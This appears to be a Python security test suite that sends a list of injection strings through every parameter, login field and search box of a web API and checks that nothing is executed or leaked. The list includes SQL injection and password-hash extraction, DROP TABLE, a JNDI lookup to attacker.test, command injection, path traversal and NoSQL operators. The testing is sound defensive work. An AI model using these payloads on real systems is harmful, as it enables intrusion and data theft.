"""SQL, and whatever else a text could be taken for, through every parameter of every operation."""

import json
import urllib.parse

SQL = [
    "'", "''", "\"", "`", "\\", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE accounts; --", "\" OR \"\"=\"", "1; ATTACH DATABASE 'x' AS y",
    "' UNION SELECT password_hash, 1, 1 FROM accounts --", "' AND (SELECT 1 FROM sqlite_schema) --", "%", "_", "%%", "a%", "?", "?1", "$1", ":name",
    "@name", "/*", "*/", "--", ";", "x' AND randomblob(1000000000) --", "${jndi:ldap://attacker.test/a}", "{{7*7}}", "#{7*7}", "$(touch attacked)",
    "`touch attacked`", "| id", "; id", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "*)(uid=*))(|(uid=*", "%s%s%s%n",
    "\u2019 OR 1=1", "\uff07 OR 1=1", "\u02bc OR 1=1",
]


def no_parameter_becomes_a_statement(world):
    tessera, faults, tried = world.tessera, [], 0
    tokens = {False: tessera.sign_in("ada")["access_token"], True: tessera.sign_in("root")["access_token"]}
    for operation in world.operations:
        if operation.id in ("listenToStatusEvents", "deleteAccount"):
            continue
        before = _shape(tessera)
        token = tokens[operation.path.startswith("/admin")]
        body, kind = operation.content()
        for text in SQL[::2] if operation.takes_form or "password" in operation.body else SQL:
            requests = [(operation.url(default=text), {}, body)] if operation.names else []
            for name, where in operation.parameters:
                if where == "query":
                    requests.append((f"{operation.url()}?{name}={urllib.parse.quote(text)}", {}, body))
                elif where == "header" and text.isascii():
                    requests.append((operation.url(), {name: text}, body))
                elif where == "cookie":
                    requests.append((operation.url(), {"Cookie": f"{name}={urllib.parse.quote(text)}", "Origin": tessera.url,
                                                       "Tessera-Client": "attack"}, None))
            requests += [(operation.url(), {}, operation.content(**{member: text})[0]) for member in operation.body]
            for url, headers, content in requests:
                answer = tessera.wire.send(operation.method, url, {**headers, "Content-Type": kind if content else None}, content, token=token)
                tried += 1
                if answer.status >= 500 or "SQL" in answer.text() or "sqlite" in answer.text().lower():
                    faults.append(f"{operation} {url} {content}: {answer.status} {answer.text()[:200]}")
        if _shape(tessera) != before:
            faults.append(f"{operation} changed the tables or who administers")
    assert not faults, faults
    assert tried > 1000, tried


def what_is_searched_for_is_text(world):
    tessera = world.tessera
    token = tessera.sign_in("root")["access_token"]

    def found(text):
        answer = tessera.wire.send("GET", "/admin/users?search=" + urllib.parse.quote(text), token=token)
        assert answer.status in (200, 400), f"{text!r}: {answer.status}"
        return [one["user_name"] for one in answer.json().get("users", [])]

    assert found("ada") == ["ada"]
    for text in SQL:
        assert found(text) == [], f"{text!r} finds {found(text)}"
    for text in ("ad_", "a%", "ada%", "%da", "[a]da", "ada' --", "ada\\"):
        assert found(text) == [], f"{text!r} finds {found(text)}"


def what_is_stored_comes_back_as_it_was(world):
    tessera = world.tessera
    tessera.register(world.fresh_name())
    token = tessera.sign_in(f"user{world.made}")["access_token"]
    for text in SQL:
        answer = tessera.wire.send("PATCH", "/auth/me", body={"display_name": text}, token=token)
        assert answer.status == 200 and answer.json()["display_name"] == text, f"{text!r}: {answer.text()}"
        agent = text if text.isascii() else "x"
        login = tessera.wire.ok("POST", "/auth/login", {"User-Agent": agent}, {"identifier": f"user{world.made}", "password": "correct horse battery staple"})
        listed = tessera.wire.ok("GET", "/auth/sessions", token=token)["sessions"]
        assert next(one for one in listed if one["id"] == login["session_id"])["user_agent"] == agent


def nobody_signs_in_by_a_clever_name_or_password(world):
    tessera = world.tessera
    for text in SQL:
        for body in ({"identifier": text, "password": "x"}, {"identifier": "ada", "password": text}, {"identifier": "ada" + text, "password": text}):
            answer = tessera.wire.send("POST", "/auth/login", body=body)
            assert answer.status in (400, 401), f"{body}: {answer.status} {answer.text()}"
    for value in ({"$ne": None}, {"$gt": ""}, ["ada"], True, 0, None):
        answer = tessera.wire.send("POST", "/auth/login", body=json.dumps({"identifier": "ada", "password": value}).encode(),
                                   headers={"Content-Type": "application/json"})
        assert answer.status == 400, f"{value}: {answer.status}"


def _shape(tessera):
    """The tables there are, and who administers."""
    state = tessera.state()
    return sorted(state), len([row for row in state["accounts"] if b"admin" in row])
